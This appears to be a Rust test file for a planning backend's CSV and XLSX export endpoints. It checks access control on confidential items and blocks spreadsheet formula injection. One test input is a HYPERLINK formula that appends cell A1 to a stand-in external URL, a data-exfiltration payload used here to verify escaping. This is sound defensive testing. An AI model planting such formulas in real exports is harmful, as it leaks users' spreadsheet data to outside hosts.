//! Export of a plan, a thema or everything as CSV and XLSX over HTTP, as the reader may see it, with no cell
//! that a spreadsheet runs as a formula; and the helpers of the re-import tests (`export_import`).

use crate::helpers::{Als, Kijkers, TestApp, new_actie, plan_ids};
use crate::lekken::geheim;
use koers_backend::toegang::Rol;
use koers_shared::export::KOLOMMEN;
use serde_json::json;

/// `GET path` as `als`: status, headers and body.
pub async fn download(
    app: &TestApp,
    als: &Als<'_>,
    path: &str,
) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let mut req = app.client.get(app.url(path));
    match als {
        Als::Anoniem => {}
        Als::Token(t) => req = req.bearer_auth(t),
        Als::Sessie(s) | Als::SessieZonderCsrf(s) => req = req.header(reqwest::header::COOKIE, &s.cookie),
    }
    let r = req.send().await.expect("request");
    let status = r.status().as_u16();
    let headers = r.headers().clone();
    (status, headers, r.bytes().await.expect("body").to_vec())
}

/// The cells of a CSV export, the header first.
pub fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).expect("utf-8");
    let text = text.strip_prefix('\u{feff}').expect("a BOM for spreadsheets");
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("record").iter().map(str::to_string).collect())
        .collect()
}

/// Rows as CSV text (`;`).
pub fn to_csv(rows: &[Vec<String>]) -> String {
    let mut w = csv::WriterBuilder::new().delimiter(b';').from_writer(vec![]);
    for r in rows {
        w.write_record(r).unwrap();
    }
    String::from_utf8(w.into_inner().unwrap()).unwrap()
}

/// The column index of `naam`.
pub fn kol(naam: &str) -> usize {
    KOLOMMEN.iter().position(|k| *k == naam).unwrap()
}

/// The row of actie `id`.
pub fn row_of<'a>(rows: &'a mut [Vec<String>], id: &str) -> &'a mut Vec<String> {
    rows.iter_mut()
        .find(|r| r[kol("id")] == id)
        .unwrap_or_else(|| panic!("row of {id}"))
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).to_string()
}

#[tokio::test]
async fn an_export_keeps_the_hierarchy_and_holds_only_what_the_reader_may_see() {
    let app = TestApp::spawn().await;
    let g = geheim(&app).await;
    let k = Kijkers::new(&app).await;
    let pad = format!("/export/actieplan/{}.csv", g.plan);

    let (status, headers, body) = download(&app, &Als::Sessie(&k.lezer), &pad).await;
    assert_eq!(status, 200, "{}", text(&body));
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    let disp = headers["content-disposition"].to_str().unwrap();
    assert!(
        disp.starts_with("attachment; filename=\"koers-actieplan-mh-2024-2026-") && disp.ends_with(".csv\""),
        "{disp}"
    );
    assert_eq!(headers["cache-control"], "no-store");
    let rows = csv_rows(&body);
    assert_eq!(rows[0], KOLOMMEN.map(str::to_string).to_vec());
    let d = app
        .data(
            "query($id: ID!) { actieplan(id: $id) { titel thema { naam } opgaven { titel acties { id versie titel } } } }",
            json!({ "id": g.plan }),
        )
        .await;
    let plan = &d["actieplan"];
    // One row per actie, and one for an opgave without acties.
    let verwacht: Vec<(&serde_json::Value, Option<&serde_json::Value>)> = plan["opgaven"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|o| {
            let a = o["acties"].as_array().unwrap();
            let v: Vec<_> = if a.is_empty() {
                vec![(o, None)]
            } else {
                a.iter().map(|a| (o, Some(a))).collect()
            };
            v
        })
        .collect();
    assert_eq!(rows.len() - 1, verwacht.len());
    for (row, (o, a)) in rows[1..].iter().zip(&verwacht) {
        assert_eq!(row[kol("thema")], plan["thema"]["naam"].as_str().unwrap());
        assert_eq!(row[kol("actieplan")], plan["titel"].as_str().unwrap());
        assert_eq!(row[kol("opgave")], o["titel"].as_str().unwrap());
        let leeg = serde_json::Value::Null;
        let a = a.unwrap_or(&leeg);
        assert_eq!(row[kol("actie")], a["titel"].as_str().unwrap_or_default());
        assert_eq!(row[kol("id")], a["id"].as_str().unwrap_or_default());
        assert_eq!(
            row[kol("versie")],
            a.get("versie").map(|v| v.to_string()).unwrap_or_default()
        );
    }
    let mut rows = rows;
    let r = row_of(&mut rows, &g.actie);
    assert_eq!(
        (
            &*r[kol("status")],
            &*r[kol("gezondheid")],
            &*r[kol("vertrouwelijk")]
        ),
        ("In uitvoering", "Risico", "ja")
    );

    // Without the confidential scope, or anonymous: the same plan without the confidential actie.
    for als in [Als::Token(&k.open_token), Als::Anoniem] {
        let (status, _, body) = download(&app, &als, &pad).await;
        assert_eq!(status, 200);
        let t = text(&body);
        assert!(!t.contains(&g.actie) && !t.contains("GEHEIM"), "{t}");
        assert_eq!(
            csv_rows(&body).len(),
            verwacht.len(),
            "all but the confidential one"
        );
        let (_, _, body) = download(&app, &als, "/export/alles.xlsx").await;
        assert!(!xlsx_text(&body).contains("GEHEIM"));
    }
    // A token of another thema does not find the plan, and everything is only its own thema.
    let (status, _, body) = download(&app, &Als::Token(&k.ander_thema), &pad).await;
    assert_eq!((status, code_of(&body)), (404, "NOT_FOUND".to_string()));
    let (status, _, body) = download(&app, &Als::Token(&k.ander_thema), "/export/alles.csv").await;
    assert_eq!(status, 200);
    let rows = csv_rows(&body);
    assert!(
        rows.len() > 1 && rows[1..].iter().all(|r| r[kol("thema")] == "Digitale Veiligheid"),
        "{rows:?}"
    );
    // The confidential scope of Mensenhandel sees it, in the thema's export too.
    let thema = crate::beheer_hulp::thema_id(&app, "mensenhandel").await;
    let (status, headers, body) = download(
        &app,
        &Als::Token(&k.vertrouwd),
        &format!("/export/thema/{thema}.xlsx"),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(
        headers["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert!(xlsx_text(&body).contains("GEHEIM"));

    // Bad requests say why, as JSON with a code.
    for (pad, status, code) in [
        (format!("/export/actieplan/{}.pdf", g.plan), 400, "BAD_USER_INPUT"),
        ("/export/actieplan/nope.csv".to_string(), 400, "BAD_USER_INPUT"),
        (format!("/export/thema/{}.csv", g.plan), 400, "BAD_USER_INPUT"),
        ("/export/iets.csv".to_string(), 404, "NOT_FOUND"),
    ] {
        let (s, _, body) = download(&app, &Als::Token(&app.token), &pad).await;
        assert_eq!((s, code_of(&body)), (status, code.to_string()), "{pad}");
    }
    let dicht = TestApp::spawn_with(|s| s.toegang.anoniem_lezen = false).await;
    let (s, _, body) = download(&dicht, &Als::Anoniem, "/export/alles.csv").await;
    assert_eq!((s, code_of(&body)), (401, "UNAUTHENTICATED".to_string()));
}

fn code_of(body: &[u8]) -> String {
    let v: serde_json::Value =
        serde_json::from_slice(body).unwrap_or_else(|_| panic!("json: {}", text(body)));
    v["errors"][0]["extensions"]["code"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

/// Every cell of the first sheet, as text.
pub fn xlsx_cells(bytes: &[u8]) -> Vec<Vec<calamine::Data>> {
    use calamine::{Reader, Xlsx, open_workbook_from_rs};
    let mut wb: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).expect("xlsx");
    let range = wb.worksheet_range_at(0).expect("a sheet").expect("readable");
    range.rows().map(|r| r.to_vec()).collect()
}

fn xlsx_text(bytes: &[u8]) -> String {
    format!("{:?}", xlsx_cells(bytes))
}

#[tokio::test]
async fn no_cell_of_an_export_runs_as_a_formula() {
    let app = TestApp::spawn().await;
    let (plan, opgaven) = plan_ids(&app, "mh-2024-2026").await;
    let titel = "=HYPERLINK(\"https://example.org/?\"&A1,\"klik\")";
    let id = new_actie(&app, &opgaven[0], titel).await;
    let reden = "@SUM(1+1)";
    let r = app
        .gql(
            "mutation($i: VoortgangRapporterenInvoer!) { actieVoortgangRapporteren(invoer: $i) { versie } }",
            json!({ "i": { "id": id, "versie": 1, "gezondheid": "AANDACHT", "gezondheidReden": reden } }),
        )
        .await;
    assert!(r.get("errors").is_none(), "{r:#}");

    let (_, _, body) = download(
        &app,
        &Als::Token(&app.token),
        &format!("/export/actieplan/{plan}.csv"),
    )
    .await;
    let mut rows = csv_rows(&body);
    let row = row_of(&mut rows, &id);
    assert_eq!(row[kol("actie")], format!("'{titel}"));
    assert_eq!(row[kol("gezondheidReden")], format!("'{reden}"));
    assert!(
        rows.iter()
            .flatten()
            .all(|c| !c.starts_with(['=', '+', '-', '@'])),
        "no CSV cell starts a formula"
    );

    let (status, _, body) = download(
        &app,
        &Als::Token(&app.token),
        &format!("/export/actieplan/{plan}.xlsx"),
    )
    .await;
    assert_eq!(status, 200);
    let cells = xlsx_cells(&body);
    assert_eq!(cells[0].len(), KOLOMMEN.len());
    let row = cells
        .iter()
        .find(|r| r[kol("id")] == calamine::Data::String(id.clone()))
        .expect("row");
    // The exact text, as a string cell.
    assert_eq!(row[kol("actie")], calamine::Data::String(titel.into()));
    assert_eq!(row[kol("gezondheidReden")], calamine::Data::String(reden.into()));
    use calamine::{Reader, Xlsx, open_workbook_from_rs};
    let mut wb: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(body.clone())).unwrap();
    let formules = wb.worksheet_formula("Acties").expect("formulas");
    assert!(
        formules.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula in the sheet"
    );
}

/// A redacteur of Mensenhandel, signed in.
pub async fn redacteur(app: &TestApp) -> crate::helpers::Sessie {
    app.sign_in_new("red-mh", Rol::Redacteur, &["mensenhandel"]).await
}
